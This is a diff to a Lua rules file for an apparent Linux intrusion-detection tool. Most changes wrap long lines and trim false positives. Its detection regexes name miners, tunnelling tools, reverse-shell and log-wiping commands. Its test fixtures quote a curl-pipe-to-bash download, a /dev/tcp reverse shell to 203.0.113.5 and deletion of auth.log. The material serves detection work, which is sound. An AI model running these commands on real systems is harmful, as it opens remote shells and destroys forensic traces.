@@ -1,7 +1,8 @@
 -- intruders - what somebody leaves who got in and has no module of the kernel: programs in odd places, shells on connections,
 -- miners and tunnels, rights, files that give rights, and what is done so that no trace stays.
 
-local shells = { sh = true, ash = true, bash = true, dash = true, rbash = true, zsh = true, ksh = true, mksh = true, fish = true, csh = true, tcsh = true }
+local shells = { sh = true, ash = true, bash = true, dash = true, rbash = true, zsh = true, ksh = true, mksh = true,
+  fish = true, csh = true, tcsh = true }
 local interpreters = { python = true, perl = true, ruby = true, php = true, node = true, lua = true, tclsh = true, socat = true }
 
 -- The name of a program without what stands before and behind it: /usr/bin/python3.11 is python, -bash is bash.
@@ -49,7 +50,8 @@ rule {
     for _, r in ipairs(rows.lsof) do own[r.PID] = r.PATH end
     for _, r in ipairs(rows.maps) do
       if r.PATH ~= own[r.PID] then
-        found[#found + 1] = { PID = r.PID, COMM = r.COMM, START = r.START, PATH = r.PATH, SEVERITY = is_hidden(text(r.PATH)) and "medium" or nil }
+        found[#found + 1] = { PID = r.PID, COMM = r.COMM, START = r.START, PATH = r.PATH, SEVERITY = is_hidden(text(r.PATH)) and
+          "medium" or nil }
       end
     end
     return found
@@ -87,7 +89,8 @@ rule {
   title = "{COMM} ({PID}) has the arguments of a miner of coins",
   severity = "medium",
   plugin = "psaux",
-  where = "ARGS ~ 'stratum[+0-9a-z]*://|--donate-level|--coin[ =]|--algo[ =](rx|cn|kawpow|randomx|ghostrider)|xmrig|cpuminer|minerd |nicehash|-o [a-z0-9.-]*pool[a-z0-9.-]*:[0-9]'",
+  where = "ARGS ~ 'stratum[+0-9a-z]*://|--donate-level|--coin[ =]|--algo[ =](rx|cn|kawpow|randomx|ghostrider)|xmrig|cpuminer|minerd "
+    .. "|nicehash|-o [a-z0-9.-]*pool[a-z0-9.-]*:[0-9]'",
   key = { "PID" },
   show = { "COMM", "ARGS", "EUID", "CREATION_TIME" },
   why = "The most frequent use of machines that were taken over.",
@@ -103,16 +106,19 @@ rule {
   title = "{COMM} ({PID}) is a tunnel into this network, or out of it",
   severity = "low",
   plugin = "psaux",
-  where = "ARGS ~ '(^|/)(auto)?ssh( .*)? -[a-zA-Z0-9]*[RDw]( |[0-9])|(^|/)(chisel|frpc|frps|ngrok|cloudflared|gost|ligolo[a-z-]*|revsocks|bore|rathole|gs-netcat|iodined?|dnscat2?|ptunnel[a-z-]*|stunnel4?|pwnat|3proxy)( |$)'",
+  where = "ARGS ~ '(^|/)(auto)?ssh( .*)? -[a-zA-Z0-9]*[RDw]( |[0-9])|(^|/)(chisel|frpc|frps|ngrok|cloudflared|gost|ligolo[a-z-]*|revsocks"
+    .. "|bore|rathole|gs-netcat|iodined?|dnscat2?|ptunnel[a-z-]*|stunnel4?|pwnat|3proxy)( |$)'",
   key = { "PID" },
   show = { "COMM", "ARGS", "EUID", "CREATION_TIME" },
   why = "Whoever is at the other end reaches hosts behind the firewall as if from here.",
   benign = "Administration from afar, developers' tunnels.",
   attack = "T1572",
   more = "sockets --pid {PID}",
-  hits = { { PID = 5, COMM = "ssh", ARGS = "ssh -fN -R 2222:127.0.0.1:22 u@203.0.113.5" }, { PID = 5, ARGS = "/tmp/chisel client 203.0.113.5" },
+  hits = { { PID = 5, COMM = "ssh", ARGS = "ssh -fN -R 2222:127.0.0.1:22 u@203.0.113.5" }, { PID = 5,
+    ARGS = "/tmp/chisel client 203.0.113.5" },
     { PID = 5, ARGS = "ssh -ND 1080 h" } },
-  misses = { { PID = 5, COMM = "ssh", ARGS = "ssh u@203.0.113.5" }, { PID = 5, ARGS = "sshd: u [priv]" }, { PID = 5, ARGS = "ssh -L 80:h:80 h" } },
+  misses = { { PID = 5, COMM = "ssh", ARGS = "ssh u@203.0.113.5" }, { PID = 5, ARGS = "sshd: u [priv]" }, { PID = 5,
+    ARGS = "ssh -L 80:h:80 h" } },
 }
 
 -- ---- shells ----
@@ -201,11 +207,13 @@ rule {
   attack = "T1059.004",
   more = "lsof --pid {PID}",
   hits = { { psaux = { { PID = 5, COMM = "sh", ARGS = "sh -i" } }, sockets = { { PID = 6, FD = 3, FAMILY = "AF_INET" } },
-    lsof = { { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 0, PEERS = "4" }, { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 1, PEERS = "6" } } } },
+    lsof = { { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 0, PEERS = "4" }, { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 1,
+      PEERS = "6" } } } },
   misses = { { psaux = { { PID = 5, COMM = "sh", ARGS = "sh -c x" } }, sockets = { { PID = 6, FD = 3, FAMILY = "AF_INET" } },
     lsof = { { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 0, PEERS = "4" }, { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 1, PEERS = "6" } } },
     { psaux = { { PID = 5, COMM = "sh", ARGS = "sh -i" } }, sockets = { { PID = 7, FD = 3, FAMILY = "AF_INET" } },
-      lsof = { { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 0, PEERS = "4" }, { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 1, PEERS = "6" } } } },
+      lsof = { { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 0, PEERS = "4" }, { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 1,
+        PEERS = "6" } } } },
 }
 
 rule {
@@ -223,7 +231,9 @@ rule {
       local parent = command[r.PPID]
       local name = parent and text(parent.COMM)
       if name and shells[text(r.COMM)] and (servers[name] or servers[name:match("^[%a-]*")]) then
-        found[#found + 1] = { PID = r.PID, PPID = r.PPID, COMM = r.COMM, EUID = r.EUID, CREATION_TIME = r.CREATION_TIME, ARGS = name .. " > " .. text(r.ARGS) }
+        found[#found + 1] = { PID = r.PID, PPID = r.PPID, COMM = r.COMM, EUID = r.EUID, CREATION_TIME = r.CREATION_TIME,
+          ARGS = name .. " > " .. text(r.ARGS),
+          SEVERITY = (name == "java" or name == "postgres") and "low" or nil }
       end
     end
     return found
@@ -231,13 +241,16 @@ rule {
   key = { "PID" },
   show = { "PPID", "COMM", "EUID", "ARGS", "CREATION_TIME" },
   why = "Services have no need of a shell; whoever found a hole in one has.",
-  benign = "CGI, hooks and backups that are shell scripts: look at what it runs.",
+  benign = "CGI, hooks and backups that are shell scripts: look at what it runs. Java's servers for builds and PostgreSQL do so "
+    .. "often: low.",
   attack = "T1505.003",
   more = "pstree --pid {PID}",
   hits = { { psaux = { { PID = 5, PPID = 1, COMM = "nginx", ARGS = "nginx" }, { PID = 6, PPID = 5, COMM = "sh", ARGS = "sh -c id" } } },
-    { psaux = { { PID = 5, PPID = 1, COMM = "php-fpm8.2", ARGS = "php-fpm: pool www" }, { PID = 6, PPID = 5, COMM = "sh", ARGS = "sh" } } } },
+    { psaux = { { PID = 5, PPID = 1, COMM = "php-fpm8.2", ARGS = "php-fpm: pool www" }, { PID = 6, PPID = 5, COMM = "sh",
+      ARGS = "sh" } } } },
   misses = { { psaux = { { PID = 5, PPID = 1, COMM = "sshd", ARGS = "sshd: u" }, { PID = 6, PPID = 5, COMM = "bash", ARGS = "-bash" } } },
-    { psaux = { { PID = 5, PPID = 1, COMM = "nginx", ARGS = "nginx" }, { PID = 6, PPID = 5, COMM = "nginx", ARGS = "nginx: worker process" } } } },
+    { psaux = { { PID = 5, PPID = 1, COMM = "nginx", ARGS = "nginx" }, { PID = 6, PPID = 5, COMM = "nginx",
+      ARGS = "nginx: worker process" } } } },
 }
 
 -- ---- rights ----
@@ -247,7 +260,8 @@ rule {
   title = "{COMM} ({PID}) is not root, and has rights of root that nothing gives a shell",
   severity = "medium",
   plugin = "setuid",
-  where = "EUID > 0 and CAP_EFFECTIVE ~ 'sys_module|sys_admin|sys_ptrace|sys_rawio|dac_override|dac_read_search|setuid|bpf|all' and not REASON ~ 'user namespace of its own'",
+  where = "EUID > 0 and CAP_EFFECTIVE ~ 'sys_module|sys_admin|sys_ptrace|sys_rawio|dac_override|dac_read_search|setuid|bpf|all' "
+    .. "and not REASON ~ 'user namespace of its own'",
   match = function(row)
     local name = program(row.EXE)
     return (shells[name] or interpreters[name]) and true or "info"
@@ -258,7 +272,8 @@ rule {
   benign = "A service that is a script, and whose unit gives it the right.",
   attack = "T1548",
   more = "setuid --pid {PID}",
-  hits = { { PID = 5, EUID = 1001, CAP_EFFECTIVE = "dac_override,sys_module", EXE = "/usr/bin/bash", REASON = "capabilities without being root" },
+  hits = { { PID = 5, EUID = 1001, CAP_EFFECTIVE = "dac_override,sys_module", EXE = "/usr/bin/bash",
+    REASON = "capabilities without being root" },
     { PID = 5, EUID = 1001, CAP_EFFECTIVE = "setuid", EXE = "/usr/bin/python3.11", REASON = "capabilities without being root" } },
   misses = { { PID = 5, EUID = 0, CAP_EFFECTIVE = "sys_module", EXE = "/usr/bin/bash", REASON = "x" },
     { PID = 5, EUID = 1001, CAP_EFFECTIVE = "net_raw", EXE = "/usr/bin/bash", REASON = "x" },
@@ -270,15 +285,19 @@ rule {
   title = "A file where anybody may write gives its owner's rights to who runs it",
   severity = "high",
   plugin = "files",
-  where = "TYPE = REG and FILE_MODE ~ '^-..s' and UID = 0 and (PATH ~ '" .. PUBLIC .. "' or PATH ~ '^/(home|root|dev|run)/' or PATH ~ '/[.][^/]*$')",
+  where = "TYPE = REG and FILE_MODE ~ '^-..s' and UID = 0 and (PATH ~ '/[.][^/]*$' "
+    .. "or ((PATH ~ '" .. PUBLIC .. "' or PATH ~ '^/(home|root|dev|run)/') and not PATH ~ '/(usr|s?bin|lib|libexec)/|/chrome-sandbox$'))",
   show = { "PATH", "FILE_MODE", "UID", "SIZE", "MTIME", "CTIME" },
   why = "A shell with this bit makes root of any user; packages install such programs in /usr only.",
-  benign = "None that is known.",
+  benign = "None that is known: file systems of containers and other roots, where such programs are in folders as in /usr, are left out.",
   attack = "T1548.001",
   more = "files",
-  hits = { { TYPE = "REG", FILE_MODE = "-rwsr-xr-x", UID = 0, PATH = "/var/tmp/.sh" }, { TYPE = "REG", FILE_MODE = "-rwsr-xr-x", UID = 0, PATH = "/usr/lib/.x" } },
-  misses = { { TYPE = "REG", FILE_MODE = "-rwsr-xr-x", UID = 0, PATH = "/usr/bin/su" }, { TYPE = "REG", FILE_MODE = "-rwxr-xr-x", UID = 0, PATH = "/var/tmp/.sh" },
-    { TYPE = "REG", FILE_MODE = "-rwxr-sr-x", UID = 0, PATH = "/home/mail/x" } },
+  hits = { { TYPE = "REG", FILE_MODE = "-rwsr-xr-x", UID = 0, PATH = "/var/tmp/.sh" }, { TYPE = "REG", FILE_MODE = "-rwsr-xr-x",
+    UID = 0, PATH = "/usr/lib/.x" } },
+  misses = { { TYPE = "REG", FILE_MODE = "-rwsr-xr-x", UID = 0, PATH = "/usr/bin/su" }, { TYPE = "REG", FILE_MODE = "-rwxr-xr-x",
+    UID = 0, PATH = "/var/tmp/.sh" },
+    { TYPE = "REG", FILE_MODE = "-rwxr-sr-x", UID = 0, PATH = "/home/mail/x" },
+    { TYPE = "REG", FILE_MODE = "-rwsr-xr-x", UID = 0, PATH = "/run/containerd/x/rootfs/usr/bin/su" } },
 }
 
 rule {
@@ -336,7 +355,8 @@ rule {
   id = "covered-file",
   title = "Something is mounted over {MOUNT_POINT}",
   severity = "medium",
-  plugins = { mounts = "MOUNT_POINT ~ '^/(usr/(local/)?)?s?bin/|^/(usr/)?lib[a-z0-9]*/(.*[.]so|security/)|^/etc/(passwd|shadow|group|sudoers|pam[.]d|ld[.]so|ssh)'",
+  plugins = { mounts = "MOUNT_POINT ~ '^/(usr/(local/)?)?s?bin/|^/(usr/)?lib[a-z0-9]*/(.*[.]so|security/)"
+    .. "|^/etc/(passwd|shadow|group|sudoers|pam[.]d|ld[.]so)'",
     namespaces = "TYPE = mnt and INITIAL = true" },
   find = function(rows)
     local found = {}
@@ -353,7 +373,8 @@ rule {
   benign = "Systems whose root cannot be written to.",
   attack = "T1564",
   more = "mounts",
-  hits = { { mounts = { { NS = 1, MOUNT_POINT = "/usr/bin/login", ROOT = "/.l" } }, namespaces = { { NS = 1, TYPE = "mnt", INITIAL = true } } } },
+  hits = { { mounts = { { NS = 1, MOUNT_POINT = "/usr/bin/login", ROOT = "/.l" } }, namespaces = { { NS = 1, TYPE = "mnt",
+    INITIAL = true } } } },
   misses = { { mounts = { { NS = 2, MOUNT_POINT = "/usr/bin/login" } }, namespaces = { { NS = 1, TYPE = "mnt", INITIAL = true } } },
     { mounts = { { NS = 1, MOUNT_POINT = "/usr/share" } }, namespaces = { { NS = 1, TYPE = "mnt", INITIAL = true } } } },
 }
@@ -363,16 +384,20 @@ rule {
   title = "Files under names that a listing does not show, where anybody may write",
   severity = "medium",
   plugin = "files",
-  where = "TYPE = REG and (PATH ~ '/[.][.][.]' or PATH ~ '/[.]{0,2} +/' or (FILE_MODE ~ 'x' and (PATH ~ '^/dev/' or PATH ~ '^/(tmp|var/tmp|run/lock|var/lock)/(.*/)?[.]')))",
+  where = "TYPE = REG and (PATH ~ '/[.][.][.]' or PATH ~ '/[.]{0,2} +/' or (FILE_MODE ~ 'x' "
+    .. "and (PATH ~ '^/dev/' or PATH ~ '^/(tmp|var/tmp|run/lock|var/lock)/(.*/)?[.]')))",
   show = { "PATH", "FILE_MODE", "UID", "SIZE", "MTIME" },
   why = "Tools of intruders wait there: nothing else makes a folder of that name, or programs in it.",
   benign = "Installers and AppImages that unpack into a hidden folder of /tmp.",
   attack = "T1564.001",
   more = "files",
-  hits = { { TYPE = "REG", FILE_MODE = "-rwxr-xr-x", PATH = "/tmp/.X11-unix/x" }, { TYPE = "REG", FILE_MODE = "-rw-r--r--", PATH = "/usr/share/.../x" },
+  hits = { { TYPE = "REG", FILE_MODE = "-rwxr-xr-x", PATH = "/tmp/.X11-unix/x" }, { TYPE = "REG", FILE_MODE = "-rw-r--r--",
+    PATH = "/usr/share/.../x" },
     { TYPE = "REG", FILE_MODE = "-rwxr-xr-x", PATH = "/dev/shm/x" }, { TYPE = "REG", FILE_MODE = "-rw-r--r--", PATH = "/var/.. /x" } },
-  misses = { { TYPE = "REG", FILE_MODE = "-rw-r--r--", PATH = "/tmp/.X0-lock" }, { TYPE = "REG", FILE_MODE = "-rwxr-xr-x", PATH = "/tmp/build/x" },
-    { TYPE = "REG", FILE_MODE = "-rw-r--r--", PATH = "/dev/shm/x" }, { TYPE = "REG", FILE_MODE = "-rwxr-xr-x", PATH = "/srv/with space/x" } },
+  misses = { { TYPE = "REG", FILE_MODE = "-rw-r--r--", PATH = "/tmp/.X0-lock" }, { TYPE = "REG", FILE_MODE = "-rwxr-xr-x",
+    PATH = "/tmp/build/x" },
+    { TYPE = "REG", FILE_MODE = "-rw-r--r--", PATH = "/dev/shm/x" }, { TYPE = "REG", FILE_MODE = "-rwxr-xr-x",
+      PATH = "/srv/with space/x" } },
 }
 
 rule {
@@ -388,7 +413,8 @@ rule {
   attack = "T1070.003",
   more = "envars --pid {PID}",
   hits = { { PID = 5, COMM = "bash", KEY = "HISTFILE", VALUE = "/dev/null" }, { PID = 5, COMM = "bash", KEY = "HISTSIZE", VALUE = "0" } },
-  misses = { { PID = 5, COMM = "bash", KEY = "HISTFILE", VALUE = "/root/.bash_history" }, { PID = 5, COMM = "bash", KEY = "HISTSIZE", VALUE = "1000" } },
+  misses = { { PID = 5, COMM = "bash", KEY = "HISTFILE", VALUE = "/root/.bash_history" }, { PID = 5, COMM = "bash", KEY = "HISTSIZE",
+    VALUE = "1000" } },
 }
 
 rule {
@@ -396,10 +422,14 @@ rule {
   title = "{COMM} ({PID}) was told what intruders tell a shell",
   severity = "low",
   plugin = "bash",
-  where = "COMMAND ~ '(curl|wget|fetch) .*[|] *(sudo )?(ba|da|z)?sh|base64 +(-d|--decode).*[|] *(ba|da|z)?sh|/dev/(tcp|udp)/|unset +HIST|HIST(FILE|SIZE|FILESIZE)=(0|/dev/null|$)|history +-[cw]|set +[+]o +history|chattr +[+]i|ld[.]so[.]preload|setenforce +0|insmod +/(tmp|dev/shm|var/tmp)|>+ */var/log/|(rm|shred) .*(/var/log/|_history|[uwb]tmp)|(nc|ncat) .*-[a-z]*e |mkfifo .*(nc|telnet|openssl) |touch +-[a-z]*r '",
+  where = "COMMAND ~ '(curl|wget|fetch) .*[|] *(sudo )?(ba|da|z)?sh|base64 +(-d|--decode).*[|] *(ba|da|z)?sh|/dev/(tcp|udp)/"
+    .. "|unset +HIST|HIST(FILE|SIZE|FILESIZE)=(0|/dev/null|$)|history +-[cw]|set +[+]o +history|chattr +[+]i|ld[.]so[.]preload"
+    .. "|setenforce +0|insmod +/(tmp|dev/shm|var/tmp)|>+ */var/log/|(rm|shred) .*(/var/log/|_history|[uwb]tmp)"
+    .. "|(nc|ncat) .*-[a-z]*e |mkfifo .*(nc|telnet|openssl) |touch +-[a-z]*r '",
   match = function(row)
     local line = text(row.COMMAND)
-    return (line:find("HIST") or line:find("history +%-[cw]") or line:find("%+o +history") or line:find("/var/log/") or line:find("_history")
+    return (line:find("HIST") or line:find("history +%-[cw]") or line:find("%+o +history") or line:find("/var/log/") or
+      line:find("_history")
       or line:find("/dev/tcp/", 1, true) or line:find("ld.so.preload", 1, true)) and "medium" or "low"
   end,
   key = { "PID" },
@@ -410,7 +440,8 @@ rule {
   more = "bash --pid {PID}",
   hits = { { PID = 5, COMM = "bash", COMMAND = "curl -fsSL http://203.0.113.5/a | bash" }, { PID = 5, COMMAND = "unset HISTFILE" },
     { PID = 5, COMMAND = "bash -i >& /dev/tcp/203.0.113.5/443 0>&1" }, { PID = 5, COMMAND = "rm -f /var/log/auth.log" } },
-  misses = { { PID = 5, COMMAND = "curl -o a.sh http://203.0.113.5/a" }, { PID = 5, COMMAND = "history | tail" }, { PID = 5, COMMAND = "tail -f /var/log/syslog" } },
+  misses = { { PID = 5, COMMAND = "curl -o a.sh http://203.0.113.5/a" }, { PID = 5, COMMAND = "history | tail" }, { PID = 5,
+    COMMAND = "tail -f /var/log/syslog" } },
 }
 
 rule {
@@ -424,8 +455,10 @@ rule {
   benign = "An administrator who wants no history of a password-less account.",
   attack = "T1070.003",
   more = "files",
-  hits = { { TYPE = "LNK", TARGET = "/dev/null", PATH = "/root/.bash_history" }, { TYPE = "LNK", TARGET = "/dev/null", PATH = "/var/log/wtmp" } },
-  misses = { { TYPE = "LNK", TARGET = "/dev/null", PATH = "/etc/systemd/system/x.service" }, { TYPE = "LNK", TARGET = "/run/x", PATH = "/var/log/x" } },
+  hits = { { TYPE = "LNK", TARGET = "/dev/null", PATH = "/root/.bash_history" }, { TYPE = "LNK", TARGET = "/dev/null",
+    PATH = "/var/log/wtmp" } },
+  misses = { { TYPE = "LNK", TARGET = "/dev/null", PATH = "/etc/systemd/system/x.service" }, { TYPE = "LNK", TARGET = "/run/x",
+    PATH = "/var/log/x" } },
 }
 
 rule {
